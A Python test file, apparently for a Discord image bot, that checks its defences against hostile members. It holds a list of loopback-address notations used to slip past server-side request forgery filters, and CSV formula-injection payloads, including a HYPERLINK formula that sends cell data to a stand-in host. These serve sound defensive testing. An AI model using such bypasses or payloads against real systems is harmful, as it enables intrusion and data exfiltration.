"""What a hostile member, or the moderator of a server of their own, can try through the real bot:
aim the bot at its host's network, answer it without end, plant formulas in the export, click
forged buttons, grow a settings list past Discord's limits, and ask to be forgotten."""

import csv
import io
import socket

from sqlalchemy import select, text

from bot.clock import utcnow
from bot.db.models import Base, GuildApiKey
from bot.db.safety import block_member
from tests.helpers import imagine, set_key, settings, usage_rows
from tests.standins.discord_data import UserOption
from tests.standins.images_rules import GUILD_API_KEY, VAULT_SECRET

# The nine ways the review aimed the form at the bot's own host; `localhost` is a name that
# resolves to 127.0.0.1.
LOOPBACK_NOTATIONS = [
    "127.0.0.1",
    "localhost",
    "[::1]",
    "0x7f.0.0.1",
    "0.0.0.0",
    "[::ffff:127.0.0.1]",
    "2130706433",
    "127.1",
    "0177.0.0.1",
]


def keyed_config(make_config, **security):
    return make_config(security={"secret_key": VAULT_SECRET, "guild_base_urls": ["http://", "https://"], **security})


async def test_a_guilds_base_url_cannot_reach_the_bots_own_host_in_any_notation(
    make_config, start_bot, discord_api, images_api, guild_images_api
):
    """A listening server is there at every one of these addresses; none is saved, none reached."""
    bot = await start_bot(keyed_config(make_config))
    port = guild_images_api.base_url.split(":")[2].split("/")[0]
    for host in LOOPBACK_NOTATIONS:
        reply = await set_key(discord_api, GUILD_API_KEY, f"http://{host}:{port}/v1")
        assert reply.ephemeral and "address this bot does not connect to" in reply.text, host
    assert (await imagine(discord_api, "a fox")).attachment_bytes()
    async with bot.sessions() as session:
        assert not (await session.scalars(select(GuildApiKey))).all()
    assert not guild_images_api.requests and len(images_api.requests) == 1


async def test_a_guilds_base_url_on_a_name_that_resolves_to_ipv6_site_local_is_refused(
    make_config, start_bot, discord_api, images_api, monkeypatch
):
    """Python counts site-local `fec0::/10` as global; the bot does not connect there. (DNS is
    the network's edge: here it answers one name with fec0::1, and all else as the system does.)"""
    system_lookup = socket.getaddrinfo

    def lookup(host, port, *args, **kwargs):
        if host == "images.site-local.example":
            return [(socket.AF_INET6, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", ("fec0::1", port, 0, 0))]
        return system_lookup(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", lookup)
    bot = await start_bot(keyed_config(make_config))
    reply = await set_key(discord_api, GUILD_API_KEY, "https://images.site-local.example/v1")
    assert reply.ephemeral and "address this bot does not connect to" in reply.text
    async with bot.sessions() as session:
        assert not (await session.scalars(select(GuildApiKey))).all()


async def test_an_endless_answer_from_a_guilds_provider_is_cut_and_the_member_told(
    make_config, start_bot, discord_api, images_api, guild_images_api
):
    config = keyed_config(make_config, allowed_networks=["127.0.0.1/32"])
    bot = await start_bot(config.model_copy(update={"images": config.images.model_copy(update={"max_response_mb": 8})}))
    await set_key(discord_api, GUILD_API_KEY, guild_images_api.base_url)
    guild_images_api.fail_next("endless")
    reply = await imagine(discord_api, "a fox")
    assert reply.ephemeral and "answer we could not use" in reply.text
    [row] = await usage_rows(bot)
    assert (row.status, row.error_code) == ("failed", "invalid_response")
    assert guild_images_api.endless_sent < 64 * 2**20 and not images_api.requests


FORMULAS = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]


async def test_the_export_opened_as_csv_shows_formulas_as_text(make_config, start_bot, discord_api, images_api):
    bot = await start_bot(make_config())
    for prompt in FORMULAS:
        await discord_api.wait_for_reply(await discord_api.send_slash_command("imagine", {"prompt": prompt}))
    await usage_rows(bot, len(FORMULAS), delivered=True)
    state = await discord_api.send_slash_command("usage", {}, subcommand="export", user=discord_api.moderator)
    [data] = (await discord_api.wait_for_reply(state)).attachment_bytes()
    cells = [line["prompt"] for line in csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))]
    assert cells == ["'" + prompt for prompt in FORMULAS]


async def test_buttons_act_only_on_their_owners_things(make_config, start_bot, discord_api, images_api):
    """In a server that did not add the bot, another member sees a member's personal result and
    presses its buttons: none of them acts. (discord.py answers only custom ids that are on the
    message, so the buttons a member can press are those the bot put on messages they see.)"""
    bot = await start_bot(make_config())
    other = {**discord_api.member, "id": "4243", "username": "someone"}
    mine = await discord_api.wait_for_reply(
        await discord_api.send_slash_command("imagine", {"prompt": "my secret fox"}, place="foreign")
    )
    [row] = await usage_rows(bot, delivered=True)
    for custom_id, refusal in [
        (f"ib:reroll:{row.id}", "can't be rerolled"),
        (f"ib:z2:{row.id}:0", "can't be extended"),
        (f"ib:delete:{row.id}", "Only the member who asked"),
    ]:
        refused = await discord_api.wait_for_reply(await discord_api.click(mine, custom_id, user=other))
        assert refused.ephemeral and refusal in refused.text, custom_id
    assert [request.fields["prompt"] for request in images_api.requests] == ["my secret fox"]
    rows = await usage_rows(bot, 4)
    assert [(r.command, r.status) for r in rows[1:]] == [
        ("reroll", "invalid"),
        ("z2", "invalid"),
        ("delete", "invalid"),
    ]


async def test_sixty_blocked_members_fit_in_the_settings_reply(make_config, start_bot, discord_api, images_api):
    bot = await start_bot(make_config())
    async with bot.sessions() as session:
        for user_id in range(10**17, 10**17 + 59):
            await block_member(
                session, int(discord_api.guild_id), user_id, until=None, reason="moderator", blocked_by=1, now=utcnow()
            )
        await session.commit()
    added = await settings(discord_api, "block", {"action": "add", "member": UserOption(discord_api.member)})
    shown = await settings(discord_api, "show", {})
    for reply in (added, shown):
        [embed] = reply.payload["embeds"]
        fields = {field["name"]: field["value"] for field in embed["fields"]}
        assert fields["Blocked members"].endswith("more") and "and " in fields["Blocked members"]
        assert all(len(value) <= 1024 for value in fields.values())
        assert len(embed["title"]) + sum(len(f["name"]) + len(f["value"]) for f in embed["fields"]) <= 6000


async def every_table_text(bot) -> str:
    """Every row of every table, as text, for a scan."""
    dumped = []
    async with bot.sessions() as session:
        for table in Base.metadata.sorted_tables:
            rows = (await session.execute(text(f'SELECT * FROM "{table.name}"'))).all()
            dumped.append(f"{table.name}: " + repr([tuple(row) for row in rows]))
    return "\n".join(dumped)


async def test_forget_me_leaves_nothing_of_the_member_in_any_table(make_config, start_bot, discord_api, images_api):
    """Their prompts, results, kept images, previews and jobs (whose params copy the prompt and the
    attachment links) go; counts without their name stay. Today's limit counter keeps their id, so
    that forgetting does not reset a limit."""
    bot = await start_bot(make_config())
    member = discord_api.member["id"]
    await imagine(discord_api, "a remarkable heron")
    discord_api.fail_next("update_webhook_message", 404, 10015, "Unknown Webhook", uploads=True)
    discord_api.fail_next("create_message", 403, 50013, "Missing Permissions", uploads=True)
    discord_api.closed_dm_channels.add(discord_api.dm_channel_id)
    kept = await discord_api.send_slash_command("imagine", {"prompt": "a remarkable kept heron", "n": 2})
    await discord_api.wait_for_reply(kept)  # two images are not streamed: the result is the one upload
    # Discord refused that result by every route: its images are kept.
    await usage_rows(bot, 2, delivered=True)
    before = await every_table_text(bot)
    assert "remarkable" in before and member in before and "kept_result: []" not in before

    reply = await discord_api.wait_for_reply(await discord_api.send_slash_command("forget-me"))
    assert "gone from 2 requests" in reply.text
    after = await every_table_text(bot)
    assert "remarkable" not in after and "kept_result: []" in after and "result_preview: []" in after
    assert member not in after.replace(f"images:{member}", "")
    rows = await usage_rows(bot, 2)
    assert [(row.user_id, row.status) for row in rows] == [(0, "ok"), (0, "ok")]
